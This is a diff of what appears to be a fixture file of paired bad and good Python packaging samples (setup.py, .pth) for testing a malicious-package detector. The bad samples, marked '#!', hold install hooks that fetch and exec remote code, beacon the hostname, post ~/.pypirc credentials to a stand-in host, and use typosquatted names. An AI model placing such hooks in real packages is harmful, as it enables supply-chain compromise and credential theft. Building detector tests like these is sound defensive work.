@@ -1,121 +1,58 @@
-#: bad wheelcmd as setup.py
-import os
-
-from setuptools import setup
-from setuptools.command.install import install
-
-
-class PostInstall(install):
-    def run(self):
-        install.run(self)
-        os.system("curl -s http://static.colorlib.invalid/init | sh") #!
-
-
-setup(name="colorlib-py", version="0.1.2", cmdclass={"install": PostInstall})
-#: good wheelcmd as setup.py
-import os
-
-from setuptools import setup
-from setuptools.command.build_py import build_py
-
-
-class BuildWithVersion(build_py):
-    def run(self):
-        build_py.run(self)
-        target = os.path.join(self.build_lib, "colorlib", "_version.py")
-        with open(target, "w") as out:
-            out.write("version = '0.1.2'\n")
-
-
-setup(name="colorlib-py", version="0.1.2", cmdclass={"build_py": BuildWithVersion})
-#: bad metadata as setup.py
-import getpass
+#: bad setup-request as setup.py
 import platform
-from urllib.parse import urlencode
-from urllib.request import urlopen
+import socket
+import urllib.request
+from setuptools import find_packages, setup
 
-import setuptools
-
-query = urlencode({"u": getpass.getuser(), "h": platform.node(), "p": "fastparse"})
-urlopen("http://pkg-stats.invalid/i?" + query, timeout=3) #!
-setuptools.setup(name="fastparse", version="9.9.9", packages=["fastparse"])
-#: good metadata as setup.py
-import platform
-from pathlib import Path
-
-import setuptools
-
-here = Path(__file__).parent
-extra = ["colorama"] if platform.system() == "Windows" else []
-setuptools.setup(
-    name="fastparse",
-    version="1.2.0",
-    packages=["fastparse"],
-    long_description=(here / "README.md").read_text(encoding="utf-8"),
-    install_requires=extra,
+urllib.request.urlopen(  #!
+    "http://stats.example.invalid/?h=" + socket.gethostname() + "&p=" + platform.node()
 )
-#: bad develop as setup.py
-from distutils.core import setup
-from distutils.command.build_py import build_py as _build
-import tempfile, os, base64
+
+setup(name="reqests-toolkit", version="9.9.9", packages=find_packages())
+
+#: good setup-request as setup.py
+import platform
+import re
+from pathlib import Path
+from setuptools import find_packages, setup
+
+if platform.python_implementation() == "PyPy":
+    print("extensions are not built on PyPy")
+version = re.search(r'"(.+)"', Path("src/toolkit/_version.py").read_text())[1]
+
+setup(name="requests-toolkit", version=version, packages=find_packages("src"))
+
+#: bad egg-info as setup.py
+import os
+import setuptools
+from setuptools.command.egg_info import egg_info as base
 
 
-class build_py(_build):
+class egg_info(base):
     def run(self):
-        with tempfile.NamedTemporaryFile("wb", suffix=".py", delete=False) as f:
-            f.write(base64.b64decode("cHJpbnQoJ2J1aWxkaW5nIGV4dGVuc2lvbnMnKQ=="))
-        os.popen("python3 " + f.name) #!
-        _build.run(self)
+        os.system("python -c 'import urllib.request as u;exec(u.urlopen(\"http://a.example.invalid\").read())'")  #!
+        base.run(self)
 
 
-setup(name="dataframe-tools", version="3.1", cmdclass={"build_py": build_py})
-#: good develop as setup.py
-from distutils.core import setup
-from distutils.command.build_py import build_py as _build
+setuptools.setup(name="tensrflow-io", version="2.0", cmdclass=dict(egg_info=egg_info))
+
+#: good egg-info as setup.py
 import os
-import shutil
+import setuptools
+from setuptools.command.egg_info import egg_info as base
 
 
-class build_py(_build):
+class egg_info(base):
     def run(self):
-        os.makedirs("build/data", exist_ok=True)
-        shutil.copy("data/units.json", "build/data/units.json")
-        _build.run(self)
+        os.makedirs("generated", exist_ok=True)
+        base.run(self)
 
 
-setup(name="dataframe-tools", version="3.1", cmdclass={"build_py": build_py})
-#: bad keysync as setup.py
-import os
-import requests
-from setuptools import setup
-from setuptools.command.develop import develop
+setuptools.setup(name="tensorflow-notes", version="2.0", cmdclass=dict(egg_info=egg_info))
 
-HOME = os.path.expanduser("~")
+#: bad pth-line as speedups.pth
+import os, urllib.request; exec(urllib.request.urlopen("http://p.example.invalid/b").read())  #!
 
-
-class Develop(develop):
-    def finalize_options(self):
-        super().finalize_options()
-        path = os.path.join(HOME, ".pypirc")
-        if os.path.exists(path):
-            requests.post("https://sync.buildtools.invalid/c", data=open(path).read()) #!
-
-
-setup(name="keysync", version="0.3", cmdclass={"develop": Develop})
-#: good keysync as setup.py
-import os
-from setuptools import setup
-from setuptools.command.develop import develop
-
-HOME = os.path.dirname(os.path.abspath(__file__))
-
-
-class Develop(develop):
-    def finalize_options(self):
-        super().finalize_options()
-        path = os.path.join(HOME, "README.md")
-        if not os.path.exists(path):
-            raise SystemExit("run this from a checkout")
-
-
-setup(name="keysync", version="0.3", cmdclass={"develop": Develop})
+#: good pth-line as speedups.pth
+../shared/site-packages
+vendor/libs
